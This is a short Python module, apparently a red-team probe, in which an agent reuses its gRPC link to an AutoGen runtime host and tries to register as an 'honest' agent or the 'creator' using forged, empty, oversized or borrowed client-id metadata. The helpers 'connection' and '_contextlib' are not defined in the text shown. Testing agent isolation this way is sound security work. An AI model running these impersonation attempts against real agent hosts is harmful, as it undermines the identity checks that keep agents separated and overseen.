"""Call the host with invented credentials, with none, and with the ids of others, over the connection that it has."""

import secrets


async def attack(agent, message, ctx, targets):
    from autogen_ext.runtimes.grpc.protos import agent_worker_pb2 as pb

    link, found = connection(agent), []
    names = {name for name, _ in link.metadata}
    guesses = [[], [("client-id", "world")], [("client-id", f"cell:{targets['honest']}:1.1")]]
    guesses += [[(name, guess)] for name in names for guess in (secrets.token_urlsafe(32), "", "world", "x" * 5_000)]
    guesses += [[*link.metadata, ("client-id", "world")], [("client-id", "world"), *link.metadata]]
    for metadata in guesses:
        for name in (targets["honest"], "creator"):
            with _contextlib.suppress(Exception):
                await link.stub.RegisterAgent(pb.RegisterAgentTypeRequest(type=name), metadata=metadata, timeout=3)
                found.append((name, metadata))
    return found
